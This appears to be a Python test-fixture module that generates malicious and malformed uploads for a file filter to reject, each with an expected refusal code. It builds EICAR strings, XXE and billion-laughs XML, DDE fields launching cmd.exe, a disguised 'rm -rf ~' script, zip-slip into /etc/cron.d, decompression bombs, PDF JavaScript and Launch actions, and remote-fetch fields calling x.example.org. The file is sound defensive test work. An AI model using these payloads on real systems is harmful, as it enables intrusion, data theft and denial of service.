"""Files that must not get in, and files that must: each built here, byte by byte, so that the repository holds no hostile file.

`bad()` gives (label, name, bytes, expected refusal code); `good()` gives (label, name, bytes). `python -m tests.core.bad_files DIR` writes them.
"""

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from random import Random

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
Bad = tuple[str, str, bytes, str]
Good = tuple[str, str, bytes]
XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'


# -- pictures ---------------------------------------------------------------------------------------------------------
def picture(target: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **options: object) -> bytes:
    image = Image.linear_gradient("L").resize(size).convert(mode)
    out = io.BytesIO()
    image.save(out, target, **options)
    return out.getvalue()


def noise(size: tuple[int, int] = (320, 240)) -> Image.Image:
    return Image.merge("RGB", [Image.effect_noise(size, 80) for _ in range(3)])


def animated(target: str, frames: int) -> bytes:
    images = [Image.new("L", (4, 4), 20 + 9 * (number % 25)) for number in range(frames)]
    out = io.BytesIO()
    images[0].save(out, target, save_all=True, append_images=images[1:], duration=20, loop=0)
    return out.getvalue()


def _many_frames(count: int) -> bytes:
    two = animated("GIF", 2)
    second = two.rindex(b"\x21\xf9")
    return two[:second] + two[second:-1] * (count - 1) + b";"


def png_of(width: int, height: int, *, bits: int = 8, kind: int = 2) -> bytes:
    """A PNG that announces a size (bits of a sample; kind 2 in colours, 6 with transparency), with next to no data behind."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", width, height, bits, kind, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def webp_of(width: int, height: int) -> bytes:
    """A WebP that announces a size, with nothing behind."""
    canvas = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0\x10\0\0\0" + canvas


def many_scans(count: int) -> bytes:
    """A progressive JPEG that goes through the whole picture again and again, for a few octets each time: enough for any processor."""
    out = io.BytesIO()
    Image.new("RGB", (4000, 4000)).save(out, "JPEG", progressive=True)
    data = out.getvalue()
    end = data.rindex(b"\xff\xd9")
    return data[:end] + data[data.rindex(b"\xff\xda") : end] * count + data[end:]


def photo(**exif: object) -> bytes:
    """A phone's photo: turned, with its place and its maker."""
    tags = Image.Exif()
    tags[0x0112], tags[0x010F], tags[0x0110] = 6, "KANB-maker", "KANB-model"
    tags.get_ifd(0x8825).update({1: "N", 2: (48.0, 51.0, 30.0), 3: "E", 4: (2.0, 21.0, 3.0), 29: "2026:11:23"})
    out = io.BytesIO()
    noise().save(out, "JPEG", exif=tags, comment=b"KANB-comment", quality=80)
    return out.getvalue()


def two_views() -> bytes:
    """The JPEG of a phone that keeps a second view of the scene (MPO)."""
    out = io.BytesIO()
    noise().save(out, "MPO", save_all=True, append_images=[noise()])
    return out.getvalue()


# -- zips -------------------------------------------------------------------------------------------------------------
def zipped(members: dict[str, bytes], stored: tuple[str, ...] = (), compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content, zipfile.ZIP_STORED if name in stored else None)
    return out.getvalue()


MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}


def ooxml(code: str, more: dict[str, bytes] | None = None, *, main_type: str = "", rels: str = "") -> bytes:
    part, kind = MAIN[code]
    main_type = main_type or f"application/vnd.openxmlformats-officedocument.{kind}.main+xml"
    types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{part}" ContentType="{main_type}"/></Types>'
    )
    link = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    relations = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{link}/officeDocument" Target="{part}"/>{rels.replace("LINK", link)}</Relationships>'
    )
    body = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="urn:w"><w:p>Attestation</w:p></w:document>'
    return zipped({"[Content_Types].xml": types.encode(), "_rels/.rels": relations.encode(), part: body.encode(), **(more or {})})


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
LOADED = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'


def field(*codes: str, shown: str = "1") -> str:
    """A field of Word: its code in as many runs, then what it shows."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    runs = "".join(code if code.startswith("<") else f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes)
    return f"{mark('begin')}{runs}{mark('separate')}<w:r><w:t>{shown}</w:t></w:r>{mark('end')}"


def written(inside: str, part: str = "word/document.xml") -> bytes:
    """A docx one part of which holds this."""
    return ooxml("docx", {part: f"<w:document {W}><w:body><w:p>{inside}</w:p></w:body></w:document>".encode()})


def computed(*formulas: str, element: str = "f", part: str = "xl/worksheets/sheet1.xml") -> bytes:
    """An xlsx whose cells hold these formulas."""
    cells = "".join(f"<c><{element}>{formula}</{element}></c>" for formula in formulas)
    return ooxml("xlsx", {part: f"<worksheet><sheetData><row>{cells}</row></sheetData></worksheet>".encode()})


def opened(inside: str, kind: str = "text") -> bytes:
    """An OpenDocument whose content is this; the prefixes are those that LibreOffice writes."""
    names = " ".join(f'xmlns:{name}="urn:{name}"' for name in ("office", "text", "draw", "table", "script", "presentation", "of"))
    body = f"<office:document-content {names} {XLINK}><office:body>{inside}</office:body></office:document-content>"
    return odf(kind, {"content.xml": body.encode()})


def external(kind: str, target: str) -> str:
    return f'<Relationship Id="r9" Type="LINK/{kind}" Target="{target}" TargetMode="External"/>'


def odf(kind: str = "text", more: dict[str, bytes] | None = None, manifest: bytes = b"", mimetype: bytes = b"") -> bytes:
    content = (
        b'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:o"><p>Attestation</p></office:document-content>'
    )
    manifest = manifest or b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:m"/>'
    mimetype = mimetype or f"application/vnd.oasis.opendocument.{kind}".encode()
    members = {"mimetype": mimetype, "content.xml": content, "META-INF/manifest.xml": manifest, **(more or {})}
    return zipped(members, stored=("mimetype",))


def symlink() -> bytes:
    out = io.BytesIO(ooxml("docx"))
    info = zipfile.ZipInfo("word/media/image1.png")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def twice() -> bytes:
    out = io.BytesIO(ooxml("docx"))
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("WORD/document.xml")
        archive.writestr(info, "<other/>")
    return out.getvalue()


def locked_zip() -> bytes:
    data = bytearray(ooxml("docx"))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def many_entries(count: int = 100_000) -> bytes:
    """A docx whose directory names 100,000 members: five megabytes of it."""
    data = ooxml("docx")
    start = data.index(b"PK\x01\x02")
    first = data[start : data.index(b"PK\x01\x02", start + 4)]
    directory = first * count
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(directory), start, 0)
    return data[:start] + directory + tail


def nested(levels: int) -> bytes:
    inner = ooxml("xlsx")
    for _ in range(levels):
        inner = ooxml("docx", {"word/embeddings/Feuille.xlsx": inner})
    return inner


def lying_size() -> bytes:
    """A member that unfolds to more than it says."""
    data = bytearray(ooxml("docx", {"word/media/a.xml": b"<a/>" * 50_000}))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.rfind(mark)
        data[at + offset : at + offset + 4] = struct.pack("<I", 100)
    return bytes(data)


# -- PDF --------------------------------------------------------------------------------------------------------------
def pdf(change: Callable[[pikepdf.Pdf], object] = lambda _: None, pages: int = 1, **options: object) -> bytes:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page()
    change(document)
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def on_open(action: Dictionary) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = action

    return pdf(change)


def annotated(**entries: object) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        rest = {key: document.make_indirect(value) if isinstance(value, Stream) else value for key, value in entries.items()}
        note = document.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **rest))
        document.pages[0].Annots = Array([note])

    return pdf(change)


def attached() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        document.attachments["paie.exe"] = pikepdf.AttachedFileSpec(document, b"MZ" + b"\0" * 50, filename="paie.exe")

    return pdf(change)


def named_script(document: pikepdf.Pdf) -> None:
    script = document.make_indirect(Dictionary(S=Name.JavaScript, JS=Stream(document, b"app.alert(1)")))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))


def object_stream_bomb() -> bytes:
    """A file of some hundred kilobytes whose object stream unfolds to 200 MB."""
    press = zlib.compressobj(9)
    packed = (
        press.compress(b"5 0 ")
        + b"".join(press.compress(b" " * 1_000_000) for _ in range(200))
        + press.compress(b"<</A 1>>")
        + press.flush()
    )
    parts = [
        b"1 0 obj<</Type/Catalog/Pages 2 0 R/X 5 0 R>>endobj\n",
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n",
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n",
        b"4 0 obj<</Type/ObjStm/N 1/First 200000004/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n" % (len(packed), packed),
    ]
    body, offsets = b"%PDF-1.7\n", [0]
    for part in parts:
        offsets.append(len(body))
        body += part
    at = len(body)
    rows = (
        b"".join(struct.pack(">BIB", 1, offset, 0) for offset in offsets[1:]) + struct.pack(">BIB", 2, 4, 0) + struct.pack(">BIB", 1, at, 0)
    )
    rows = struct.pack(">BIB", 0, 0, 255) + rows
    body += b"6 0 obj<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n%s\nendstream endobj\n" % (len(rows), rows)
    return body + b"startxref\n%d\n%%%%EOF" % at


def deep_pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj" + b"[" * 200_000 + b"]" * 200_000 + b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF"


# -- the two lists ----------------------------------------------------------------------------------------------------
@cache
def bad() -> list[Bad]:
    return [*_bad_bytes(), *_bad_pictures(), *_bad_zips(), *_bad_pdfs(), *_bad_texts()]


# fmt: off
def _bad_bytes() -> Iterator[Bad]:
    exe = b"MZ\x90\0" + b"\0" * 300
    yield "empty", "vide.pdf", b"", "empty"
    yield "over-size PDF", "gros.pdf", pdf() + b"\0" * 10_500_000, "too_big"
    yield "EICAR", "eicar.txt", EICAR, "virus"
    yield "EICAR called PDF", "eicar.pdf", EICAR, "virus"
    yield "exe called PDF", "contrat.pdf", exe, "program"
    yield "exe called docx", "contrat.docx", exe, "program"
    yield "exe under its name", "setup.exe", exe, "program"
    yield "ELF called PNG", "photo.png", b"\x7fELF\x02\x01\x01" + b"\0" * 60, "program"
    yield "shell script called txt", "notes.txt", b"#!/bin/sh\nrm -rf ~\n", "program"
    yield "Java class called jpg", "photo.jpg", b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 60, "program"
    yield "shortcut called PDF", "facture.pdf", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, "program"
    yield "double extension", "facture.pdf.exe", pdf(), "extension"
    yield "right-to-left name over an exe name", "facture\u202efdp.exe", pdf(), "extension"
    yield "RAR", "pieces.rar", b"Rar!\x1a\x07\0" + b"\0" * 60, "archive"
    yield "gzip called csv", "liste.csv", b"\x1f\x8b\x08\0" + b"\0" * 60, "archive"
    yield "old Word", "contrat.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_office"
    yield "old Excel called xlsx", "budget.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_office"
    yield "HEIC photo", "IMG_1.heic", b"\0\0\0\x18ftypheic" + b"\0" * 60, "heic"
    yield "film", "film.mp4", b"\0\0\0\x18ftypisom" + b"\0" * 60, "format"
    yield "random bytes called PDF", "scan.pdf", bytes(range(256)) * 20, "damaged"
    yield "random bytes", "scan", bytes(range(1, 256)) * 20 + b"\0", "charset"


def _bad_pictures() -> Iterator[Bad]:
    png, jpeg = picture("PNG"), photo()
    yield "50,000 × 50,000 PNG", "plan.png", png_of(50_000, 50_000), "huge"
    yield "26 million points", "plan.png", png_of(5_200, 5_000), "pixels"
    yield "10,000 frames GIF", "anime.gif", _many_frames(10_000), "animated"
    yield "animated WebP", "anime.webp", animated("WEBP", 5), "animated"
    yield "25 million points of 16 bits with transparency", "plan.png", png_of(5_000, 5_000, bits=16, kind=6), "unfolded"
    yield "25 million points in WebP", "plan.webp", webp_of(5_000, 5_000), "huge"
    yield "66 million points in JPEG", "photo.jpg", picture("JPEG", (8_500, 7_800), "L"), "pixels"
    yield "JPEG of two thousand scans", "photo.jpg", many_scans(2000), "too_costly"
    yield "animated PNG", "anime.png", animated("PNG", 5), "animated"
    yield "truncated JPEG", "photo.jpg", jpeg[: len(jpeg) // 2], "damaged"
    yield "truncated PNG", "photo.png", png[: len(png) // 2], "damaged"
    yield "JPEG head only", "photo.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 100, "damaged"
    yield "GIF called PDF", "scan.pdf", picture("GIF"), "lies"
    yield "PNG + zip (GIFAR)", "photo.png", png + zipped({"a.class": b"\xca\xfe\xba\xbe"}), "polyglot"
    yield "JPEG + zip", "photo.jpg", jpeg + zipped({"a.txt": b"a"}), "polyglot"
    yield "GIF with a web page in its comment", "photo.gif", b"GIF89a" + b"\x01\0\x01\0\0\0\0!\xfe\x20<script>alert(1)</script>\0;", "polyglot"
    yield "PDF inside the head of a JPEG", "photo.jpg", b"\xff\xd8\xff\xfe\x00\x20%PDF-1.4\n" + jpeg[2:], "polyglot"
    yield "SVG with script", "logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "svg"
    yield "SVG with onload", "logo.svg", b'<?xml version="1.0"?>\n<svg onload="alert(1)"/>', "svg"
    yield "SVG with foreignObject", "logo.svg", b"<svg><foreignObject><body><script>1</script></body></foreignObject></svg>", "svg"
    yield "SVG with xlink", "logo.png", b'<svg><use xlink:href="https://x.example.org/#a"/></svg>', "svg"
    yield "SVG with entity", "logo.svg", b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>', "svg"
    yield "SVG called PNG", "logo.png", b"<svg><script>alert(1)</script></svg>", "svg"


def _bad_zips() -> Iterator[Bad]:
    word = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield "plain zip", "pieces.zip", zipped({"a.txt": b"a"}), "archive"
    yield "EICAR in a plain zip", "pieces.zip", zipped({"eicar.com": EICAR}), "archive"
    yield "zip called docx", "contrat.docx", zipped({"a.txt": b"a"}), "archive"
    yield "jar", "outil.jar", zipped({"META-INF/MANIFEST.MF": b"Main-Class: A"}), "archive"
    yield "EICAR in a docx, compressed", "contrat.docx", ooxml("docx", {"word/media/image1.png": EICAR}), "virus"
    filler = bytes(Random(1).choices(b"abcdefgh", k=256 * 1024 - 40))
    yield "EICAR across two reads", "contrat.docx", ooxml("docx", {"word/media/a.png": filler + EICAR}), "virus"
    yield "XXE in docx", "contrat.docx", ooxml("docx", {"word/document.xml": XXE}), "entities"
    yield "XXE in UTF-16", "contrat.docx", ooxml("docx", {"word/styles.xml": XXE.decode().encode("utf-16")}), "entities"
    yield "XXE in the content types", "contrat.docx", zipped({"[Content_Types].xml": XXE}), "entities"
    yield "UTF-7 part", "contrat.docx", ooxml("docx", {"word/a.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-'}), "entities"
    yield "billion laughs in xlsx", "budget.xlsx", ooxml("xlsx", {"xl/sharedStrings.xml": LAUGHS}), "entities"
    yield "XXE in odt", "contrat.odt", odf(more={"styles.xml": XXE}), "entities"
    yield "docm called docx", "contrat.docx", ooxml("docx", main_type=word), "macros"
    yield "VBA in docx", "contrat.docx", ooxml("docx", {"word/vbaProject.bin": b"\0" * 50}), "macros"
    yield "old macro sheet in xlsx", "budget.xlsx", ooxml("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"
    yield "ActiveX in docx", "contrat.docx", ooxml("docx", {"word/activeX/activeX1.xml": b"<a/>"}), "macros"
    yield "DDE field in docx", "contrat.docx", written(field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "word/footer1.xml"), "acts"
    yield "Basic in odt", "contrat.odt", odf(more={"Basic/Standard/Module1.xml": b"<a/>"}), "macros"
    yield "script event in ods", "budget.ods", odf("spreadsheet", {"settings.xml": b'<a href="vnd.sun.star.script:x"/>'}), "macros"
    yield "remote template", "contrat.docx", ooxml("docx", rels=external("attachedTemplate", "https://x.example.org/t.dotm")), "remote"
    yield "picture on a file share", "contrat.docx", ooxml("docx", rels=external("image", "\\\\x.example.org\\a\\b.png")), "remote"
    yield from _documents_that_act()
    yield from _documents_that_fetch()
    yield "exe in docx", "contrat.docx", ooxml("docx", {"word/media/image1.png": b"MZ" + b"\0" * 90}), "embedded"
    yield "OLE object in docx", "contrat.docx", ooxml("docx", {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "embedded"
    yield "zip in docx", "contrat.docx", ooxml("docx", {"word/media/a.png": zipped({"a": b"a"})}), "embedded"
    yield "document in a document in a document", "contrat.docx", nested(2), "embedded"
    yield "42-kB zip bomb", "contrat.docx", ooxml("docx", {"word/document.xml": b" " * 50_000_000}), "too_complex"
    yield "nested bomb", "contrat.docx", ooxml("docx", {"word/embeddings/a.xlsx": ooxml("xlsx", {"xl/a.xml": b" " * 40_000_000})}), "too_complex"
    yield "100,000 entries", "contrat.docx", many_entries(), "too_complex"
    yield "zip slip", "contrat.docx", ooxml("docx", {"../../../etc/cron.d/a": b"* * * * *"}), "damaged"
    yield "absolute member", "contrat.docx", ooxml("docx", {"/etc/passwd": b"root"}), "damaged"
    yield "backslash member", "contrat.docx", ooxml("docx").replace(b"word/document.xml", b"word\\document.xml"), "damaged"
    yield "symbolic link", "contrat.docx", symlink(), "damaged"
    yield "two members of one name", "contrat.docx", twice(), "damaged"
    yield "member larger than it says", "contrat.docx", lying_size(), "damaged"
    yield "password on a docx", "contrat.docx", locked_zip(), "locked"
    yield "password on an odt", "contrat.odt", odf(manifest=b'<m:manifest xmlns:m="urn:m"><m:encryption-data/></m:manifest>'), "locked"
    yield "truncated docx", "contrat.docx", ooxml("docx")[:-40], "damaged"
    yield "docx with a tail", "contrat.docx", ooxml("docx") + b"<html><script>1</script>", "polyglot"
    yield "program before a docx", "contrat.docx", b"PK\x03\x04" + b"\0" * 50 + ooxml("docx"), "polyglot"
    yield "odt called xlsx", "budget.xlsx", odf(), "lies"
    yield "odt of unknown type", "dessin.odt", odf(mimetype=b"application/x-evil"), "archive"
    yield "broken relations", "contrat.docx", ooxml("docx", {"word/_rels/document.xml.rels": b"<a><b></a>"}), "damaged"


def _documents_that_act() -> Iterator[Bad]:
    command = r'c:\\windows\\system32\\cmd.exe "/k calc"'
    yield "DDE field in two runs", "contrat.docx", written(field("DDE", f"AUTO {command}")), "acts"
    yield "DDE field with a reference", "contrat.docx", written(field(f"DDE&#65;UTO {command}")), "acts"
    yield "DDE field that asks", "contrat.docx", written(field(f" dde {command}")), "acts"
    begun = f'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE {command}</w:instrText></w:r>'
    yield "DDE field without its result", "contrat.docx", written(begun), "acts"
    yield "DDE field outside a field", "contrat.docx", written(f"<w:r><w:instrText>DDE {command}</w:instrText></w:r>"), "acts"
    yield "DDE field in one element", "contrat.docx", written(f"<w:fldSimple w:instr='DDEAUTO {command}'/>"), "acts"
    yield "DDE field named by another field", "contrat.docx", written(field(field(" QUOTE 68 68 69 ", shown="DDE"), f" {command}")), "acts"
    yield "DDE field in a part of another name", "contrat.docx", written(field(f"DDE {command}"), "word/document.bin"), "acts"
    yield "DDE formula in xlsx", "budget.xlsx", computed("cmd|'/c calc'!A0"), "acts"
    yield "DDE formula behind a name", "budget.xlsx", computed("cmd|'/c calc'!A0", element="definedName", part="xl/a.xml"), "acts"
    link = b'<a><ddeLink ddeService="cmd" ddeTopic="/c calc"/></a>'
    yield "DDE link in xlsx", "budget.xlsx", ooxml("xlsx", {"xl/externalLinks/externalLink1.xml": link}), "acts"
    yield "data server in xlsx", "budget.xlsx", computed('RTD("x.y",,"a")'), "acts"
    yield "fields a hundred deep", "contrat.docx", written('<w:fldChar w:fldCharType="begin"/>' * 100), "too_complex"
    yield "formula too long to be one", "budget.xlsx", computed("1+" * 40_000), "too_complex"
    call = '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;a&quot;)"/>'
    yield "DDE in ods", "budget.ods", opened(call, "spreadsheet"), "acts"
    yield "DDE section in odt", "contrat.odt", opened('<text:section><office:dde-source office:dde-application="cmd"/></text:section>'), "acts"
    hover = b'<p><hlinkMouseOver action="ppaction://program"/></p>'
    yield "program behind a shape of a slide", "diapos.pptx", ooxml("pptx", {"ppt/slides/slide1.xml": hover}), "acts"
    run = '<presentation:event-listener presentation:action="execute" xlink:href="file:///c:/windows/calc.exe"/>'
    yield "program behind a shape of an odp", "diapos.odp", opened(run, "presentation"), "acts"
    yield "script event with a reference", "contrat.odt", opened('<script:event-listener xlink:href="vnd.sun.star.scr&#105;pt:x"/>'), "macros"
    yield "script event of an extension", "contrat.odt", opened('<script:event-listener xlink:href="service:a.b?c"/>'), "macros"
    yield "script event of another language", "contrat.odt", opened('<script:event-listener script:macro-name="x"/>'), "macros"
    yield "link to a macro", "contrat.odt", opened('<text:a xlink:href="macro:///Standard.a.b">ici</text:a>'), "macros"
    yield "Basic in the content of odt", "contrat.odt", opened("<script:source-code>Sub a</script:source-code>"), "macros"


def _documents_that_fetch() -> Iterator[Bad]:
    yield "INCLUDEPICTURE from the web", "contrat.docx", written(field(r' INCLUDEPICTURE "https://x.example.org/a.png" \d ')), "remote"
    yield "INCLUDETEXT from a file share", "contrat.docx", written(field(r' INCLUDETEXT "\\\\x.example.org\\s\\a.docx" ')), "remote"
    yield "LINK to a web page", "contrat.docx", written(field(" LINK Word.Document.8 https://x.example.org/a.rtf")), "remote"
    yield "template on a file share", "contrat.docx", ooxml("docx", rels=external("attachedTemplate", "file:///\\\\x.example.org\\a.dotx")), "remote"
    yield "page that Word takes in", "contrat.docx", ooxml("docx", rels='<Relationship Id="r9" Type="LINK/aFChunk" Target="/word/a.mht"/>'), "embedded"
    yield "picture drawn by VML", "contrat.docx", written('<v:imagedata xmlns:v="urn:v" src="https://x.example.org/a.png"/>'), "remote"
    yield "WEBSERVICE in xlsx", "budget.xlsx", computed('_xlfn.WEBSERVICE("https://x.example.org/?"&amp;A2)'), "remote"
    yield "formula on a workbook of a file share", "budget.xlsx", computed(r"'\\x.example.org\s\[a.xlsx]Feuil1'!A1"), "remote"
    connection = b'<a><connection refreshOnLoad="1"/></a>'
    yield "connection made on opening", "budget.xlsx", ooxml("xlsx", {"xl/connections.xml": connection}), "remote"
    service = '<table:table-cell table:formula="of:=WEBSERVICE(&quot;https://x.example.org/&quot;)"/>'
    yield "WEBSERVICE in ods", "budget.ods", opened(service, "spreadsheet"), "remote"
    yield "WEBSERVICE behind a name of ods", "budget.ods", opened(service.replace("formula", "expression"), "spreadsheet"), "remote"
    yield "WEBSERVICE behind a condition of ods", "budget.ods", opened('<a:condition a:value="WEBSERVICE(1)" xmlns:a="a"/>', "spreadsheet"), "remote"
    other = "<table:table-cell table:formula=\"of:=['https://x.example.org/a.ods'#$F.A1]\"/>"
    yield "formula on a workbook of the web in ods", "budget.ods", opened(other, "spreadsheet"), "remote"
    yield "table of the web in ods", "budget.ods", opened('<table:table-source xlink:href="https://x.example.org/a.ods"/>', "spreadsheet"), "remote"
    yield "picture of the web in odt", "contrat.odt", opened(f'<draw:image xlink:href="https://x.example.org/a.png" {LOADED}/>'), "remote"
    for at in ("file://x.example.org/s/a.odt", "file:////x/a.odt", "file:%5C%5Cx/a.odt", " \\\\x\\a.odt", "//x/a.odt", "vnd.sun.star.webdav://x/a"):
        yield f"section at {at}", "contrat.odt", opened(f'<text:section-source xlink:href="{at}"/>'), "remote"


def _bad_pdfs() -> Iterator[Bad]:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    yield "HTML called PDF", "contrat.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>", "markup"
    yield "PDF with script on opening", "contrat.pdf", on_open(script), "pdf_script"
    yield "PDF with a named script", "contrat.pdf", pdf(named_script), "pdf_script"
    yield "script hidden in an object stream", "contrat.pdf", pdf(named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate), "pdf_script"
    yield "script under the mouse", "contrat.pdf", annotated(Subtype=Name.Link, AA=Dictionary(U=script)), "pdf_script"
    yield "javascript: link", "contrat.pdf", annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(" JavaScript:alert(1)"))), "pdf_script"
    yield "PDF that launches", "contrat.pdf", on_open(Dictionary(S=Name.Launch, F=String("cmd.exe"))), "pdf_launch"
    yield "PDF with an attached program", "contrat.pdf", attached(), "pdf_attachment"
    yield "attachment as a note", "contrat.pdf", annotated(Subtype=Name.FileAttachment), "pdf_attachment"
    yield "film in a PDF", "contrat.pdf", annotated(Subtype=Name.RichMedia), "pdf_media"
    yield "XFA form", "cerfa.pdf", pdf(lambda d: setattr(d.Root, "AcroForm", Dictionary(XFA=String("x"), Fields=Array()))), "pdf_form"
    yield from _pdfs_that_reach_out()
    yield "PDF with a password", "contrat.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "locked"
    yield "truncated PDF", "contrat.pdf", pdf(pages=30)[:-400], "damaged"
    yield "PDF without pages", "contrat.pdf", pdf(pages=0), "damaged"
    yield "PDF head only", "contrat.pdf", b"%PDF-1.7\n%%EOF\n", "damaged"
    yield "PDF behind a web page", "contrat.pdf", b"<script>alert(1)</script>\n" + pdf(), "polyglot"
    yield "web page behind a PDF head", "contrat.pdf", b"%PDF-1.4\n<html><script>alert(1)</script>\n" + pdf(), "polyglot"
    yield "PDF + zip", "contrat.pdf", pdf() + zipped({"a.class": b"\xca\xfe\xba\xbe"}), "polyglot"
    yield "too many pages", "contrat.pdf", pdf(pages=2_001), "pages"
    yield "object stream of 200 MB", "contrat.pdf", object_stream_bomb(), "too_complex"
    yield "brackets 200,000 deep", "contrat.pdf", deep_pdf(), "damaged"


def _pdfs_that_reach_out() -> Iterator[Bad]:
    share, web = String("\\\\x.example.org\\s\\a.pdf"), String("https://x.example.org/")
    other, site = Dictionary(S=Name.GoToR, F=share, D=Array([0, Name.Fit])), Dictionary(S=Name.URI, URI=web)
    sending = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=web))
    local = Dictionary(S=Name.GoToR, F=String("annexe.pdf"), D=Array([0, Name.Fit]))
    yield "PDF that opens another file", "contrat.pdf", on_open(local), "pdf_launch"
    yield "PDF that opens a web page", "contrat.pdf", on_open(site), "pdf_elsewhere"
    yield "PDF that opens a web page at its second step", "contrat.pdf", on_open(Dictionary(S=Name.GoTo, Next=Array([site]))), "pdf_elsewhere"
    yield "PDF that sends on opening", "contrat.pdf", on_open(sending), "pdf_elsewhere"
    yield "PDF whose button sends", "contrat.pdf", pdf(lambda d: _button(d, sending)), "pdf_elsewhere"
    yield "PDF that opens a PDF within another", "contrat.pdf", on_open(Dictionary(S=Name.GoToE, F=share)), "pdf_launch"
    yield "PDF that reads the articles of another", "contrat.pdf", on_open(Dictionary(S=Name.Thread, F=String("annexe.pdf"))), "pdf_launch"
    yield "page that opens a file of a share", "contrat.pdf", pdf(lambda d: setattr(d.pages[0].obj, "AA", Dictionary(O=other))), "pdf_launch"
    yield "web page under the mouse", "contrat.pdf", annotated(Subtype=Name.Link, AA=Dictionary(E=site)), "pdf_elsewhere"
    yield "link to a file of a share", "contrat.pdf", annotated(Subtype=Name.Link, A=other), "pdf_launch"
    yield "PDF whose actions never end", "contrat.pdf", pdf(_endless), "too_complex"
